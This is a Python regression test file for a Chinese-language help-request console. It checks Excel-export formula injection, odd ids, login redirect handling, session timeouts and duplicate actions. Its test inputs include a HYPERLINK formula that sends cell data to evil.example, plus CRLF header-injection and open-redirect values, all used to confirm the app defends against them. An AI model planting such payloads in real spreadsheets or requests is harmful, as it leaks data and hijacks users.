"""Regression tests for what a QA pass of the console found: formula injection in the Excel
exports, crashes on odd ids, a `next` with a line break, the idle timeout's message and way
back, and an action sent twice (a double click, or two colleagues on the same request)."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from openpyxl import load_workbook

from models.help_request import RequestStatus
from services import help_requests
from tests.console_kit import add_staff, csrf_token, post, runtime_of, sign_in
from tests.test_console_auth import FrozenSigner
from tests.test_console_requests import (
    _app,
    act,
    approved_volunteer,
    audit,
    client_as,
    events_of,
    get_request,
    notices_to,
    page,
    submit,
)
from tests.conftest import make_settings

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


@pytest.fixture
def app(apps, sqlite_url, tmp_path):
    return _app(apps, sqlite_url, tmp_path)


@pytest.fixture
def app_both(apps, settings, tmp_path):
    """SQLite and PostgreSQL: an action locks its request row (SELECT … FOR UPDATE) on the latter."""
    return _app(apps, settings.database_url, tmp_path)


def seen_of(client, request_id) -> str:
    html = client.get(f"/console/requests/{request_id}").get_data(as_text=True)
    return re.search(r'name="seen" value="(\d+)"', html).group(1)


def next_of(response) -> str:
    location = urlsplit(response.headers["Location"])
    assert location.path == "/console/login"
    return parse_qs(location.query)["next"][0]


def no_formulas(xlsx: bytes) -> None:
    with zipfile.ZipFile(BytesIO(xlsx)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


# --- Excel exports: text that looks like a formula stays text -----------------------------------


def test_the_request_export_writes_a_typed_formula_as_text(app):
    request_id, _ = submit(app)
    client = client_as(app, "clerk")
    act(client, request_id, "transfer", {"unit": FORMULA})
    response = client.get("/console/requests/export.xlsx")
    no_formulas(response.data)
    sheet = load_workbook(BytesIO(response.data)).active
    cell = sheet.cell(row=2, column=13)  # 转办单位
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)


def test_a_name_typed_on_the_login_page_is_not_a_formula_in_the_audit_export(app):
    add_staff(runtime_of(app).sessions, "boss", "admin")
    stranger = app.test_client()  # anybody can type anything as a user name
    stranger.post("/console/login", data={"username": "=1+2", "password": "x" * 12,
                                          "csrf_token": csrf_token(stranger)})
    boss = app.test_client()
    sign_in(boss, "boss")
    response = boss.get("/console/audit/export.xlsx?action=login_failed")
    no_formulas(response.data)
    [row] = list(load_workbook(BytesIO(response.data)).active.iter_rows(min_row=2))
    assert (row[1].value, row[1].data_type) == ("=1+2", "s")


# --- odd ids and page arguments: 404 or ignored, never a 500 -----------------------------------------


def test_huge_or_odd_ids_are_not_found_rather_than_a_crash(app):
    request_id, _ = submit(app)
    client = client_as(app, "boss", role="admin")
    huge = "9" * 20
    for path in (f"/console/requests/{huge}", f"/console/requests/{2**31}", f"/console/registrations/volunteer/{huge}",
                 f"/console/handover/{huge}", f"/console/deliveries/{huge}", f"/console/staff/{huge}"):
        assert client.get(path).status_code == 404, path
    for path in ("/console/requests?assignee=%C2%B2", f"/console/requests?assignee={huge}",
                 f"/console/requests/export.xlsx?assignee={huge}", "/console/audit?subject_id=%C2%B2"):
        assert client.get(path).status_code == 200, path
    for form in ({"op": "accept", "ids": ["²", huge]}, {"op": "assign", "ids": [str(request_id)], "staff": "²"},
                 {"op": "assign", "ids": [str(request_id)], "staff": huge}):
        assert post(client, "/console/requests/bulk", form, token_from="/console/requests").status_code == 302
    for value in ("staff:²", f"staff:{huge}", f"volunteer:{huge}"):
        response = act(client, request_id, "assign", {"assignee": value})
        assert response.status_code == 400 and "请选择一位工作人员或一名志愿者。" in response.get_data(as_text=True)
    assert get_request(app, request_id).status == RequestStatus.SUBMITTED


def test_a_next_address_with_a_line_break_leads_to_the_work_queue(app):
    add_staff(runtime_of(app).sessions, "li", "officer")
    client = app.test_client()
    token = csrf_token(client)
    for target in ("/console/\r\nSet-Cookie: x=1", "/console/\\evil.example", "/console/../../elsewhere"):
        response = client.post("/console/login?next=" + quote(target),
                               data={"username": "li", "password": "correct-horse-42", "csrf_token": token})
        assert response.status_code == 302 and response.headers["Location"] == "/console/", target
        client.post("/console/logout", data={"csrf_token": csrf_token(client, "/console/")})
        token = csrf_token(client)


# --- the idle timeout: say so, and come back to the page -----------------------------------------------


def test_a_form_sent_after_the_session_timed_out_leads_to_sign_in_and_back(apps, sqlite_url, tmp_path, monkeypatch):
    app = apps(make_settings(sqlite_url, tmp_path, CONSOLE_IDLE_MINUTES=1))
    request_id, _ = submit(app)
    add_staff(runtime_of(app).sessions, "li", "officer")
    clock = FrozenSigner(monkeypatch)
    client = app.test_client()
    assert sign_in(client, "li").status_code == 302
    detail = f"/console/requests/{request_id}"
    token = csrf_token(client, detail)
    clock.advance(120)  # lunch: the page stayed open

    response = client.post(detail + "/resolve", data={"resolution": "已上门维修", "csrf_token": token},
                           headers={"Referer": "http://localhost" + detail})
    assert response.status_code == 302  # not a 400 "请刷新页面"
    assert next_of(response) == detail
    login = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "登录已过期，请重新登录。" in login and "data-session-expired" in login
    assert "请先登录。" not in login
    assert get_request(app, request_id).status == RequestStatus.SUBMITTED  # nothing done behind their back

    back = client.post(response.headers["Location"],
                       data={"username": "li", "password": "correct-horse-42", "csrf_token": csrf_token(client)})
    assert back.headers["Location"] == detail

    # Signed out on purpose: the next visit is a plain 请先登录.
    client.post("/console/logout", data={"csrf_token": csrf_token(client, detail)})
    assert "登录已过期" not in client.get("/console/login").get_data(as_text=True)
    first_visit = app.test_client()
    first_visit.get("/console/requests")
    assert "请先登录。" in first_visit.get("/console/login").get_data(as_text=True)


def test_a_get_after_the_timeout_comes_back_to_the_same_list(apps, sqlite_url, tmp_path, monkeypatch):
    app = apps(make_settings(sqlite_url, tmp_path, CONSOLE_IDLE_MINUTES=1))
    add_staff(runtime_of(app).sessions, "li", "officer")
    clock = FrozenSigner(monkeypatch)
    client = app.test_client()
    sign_in(client, "li")
    clock.advance(120)
    response = client.get("/console/requests?status=submitted")
    assert next_of(response) == "/console/requests?status=submitted"


# --- an action sent twice, or after a colleague acted --------------------------------------------------


def test_an_action_sent_twice_tells_the_requester_once(app_both):
    app = app_both
    request_id, _ = submit(app)
    client = client_as(app, "clerk")
    form = {"unit": "县住建局", "seen": seen_of(client, request_id)}
    assert act(client, request_id, "transfer", form).status_code == 302
    again = act(client, request_id, "transfer", form)  # the double click's second request
    html = again.get_data(as_text=True)
    assert again.status_code == 409 and "这次没有执行" in html and "县住建局" in html
    assert len(notices_to(app, "oUser1")) == 1
    assert [e.action for e in events_of(app, request_id)] == [None, "transfer"]
    note = {"note": "电话联系了老人", "seen": seen_of(client, request_id)}
    act(client, request_id, "note", note)
    assert act(client, request_id, "note", note).status_code == 409
    assert [e.action for e in events_of(app, request_id)].count("note") == 1


def test_a_colleague_acting_first_is_shown_and_the_typed_text_kept(app_both):
    app = app_both
    request_id, _ = submit(app)
    me, colleague = client_as(app, "clerk"), client_as(app, "colleague")
    seen = seen_of(me, request_id)  # both have the page open
    act(colleague, request_id, "reject", {"reason": "不属于受理范围", "seen": seen_of(colleague, request_id)})
    response = act(me, request_id, "transfer", {"unit": "县人民法院", "note": "诉讼费缓交", "seen": seen})
    html = response.get_data(as_text=True)
    assert response.status_code == 409 and "有了新的办理记录" in html
    assert "县人民法院" in html and "诉讼费缓交" in html  # the text typed, to copy
    assert get_request(app, request_id).status == RequestStatus.REJECTED
    assert notices_to(app, "oUser1") == [help_requests.reject_notice(get_request(app, request_id), "不属于受理范围")]


def test_the_same_transfer_or_assignment_twice_is_refused_by_the_service(app):
    request_id, _ = submit(app)
    client = client_as(app, "clerk")
    helper = add_staff(runtime_of(app).sessions, "helper", "officer", "城关镇", display_name="王经办")
    volunteer = approved_volunteer(app)
    for _ in range(2):  # forms without the page's version (a script, an old tab): the service still refuses
        post(client, "/console/requests/bulk", {"op": "assign", "staff": str(helper), "ids": [str(request_id)]},
             token_from="/console/requests")
    assert "已经指派给王经办了" in page(client, "/console/requests")
    act(client, request_id, "assign", {"assignee": f"volunteer:{volunteer}"})
    assert act(client, request_id, "assign", {"assignee": f"volunteer:{volunteer}"}).status_code == 400
    act(client, request_id, "transfer", {"unit": "县住建局"})
    refused = act(client, request_id, "transfer", {"unit": "县住建局"})
    assert refused.status_code == 400 and "已经转办至县住建局了" in refused.get_data(as_text=True)
    assert len(notices_to(app, "oUser1")) == 3  # 指派 staff, 指派 volunteer, 转办: each once
    assert len(audit(app, "request.assign")) == 2


# --- the demo's timelines --------------------------------------------------------------------------


def test_the_demo_requests_have_no_steps_in_the_future(app):
    """Staff read the demo's timelines: 受理 dated tomorrow for a request sent this morning confused them."""
    from sqlalchemy import func, select

    from models.status_event import StatusEvent
    from services import demo_data
    from tests.console_kit import NOW

    towns = [("城关镇", ("河口村", "柳营村")), ("青石镇", ("石桥村", "上坪村"))]
    with runtime_of(app).sessions.begin() as session:
        demo_data.seed(session, towns, NOW)
    with runtime_of(app).sessions() as session:
        latest = session.scalar(select(func.max(StatusEvent.at)).where(StatusEvent.subject == "help_request"))
        assert latest is not None and latest.replace(tzinfo=NOW.tzinfo) <= NOW
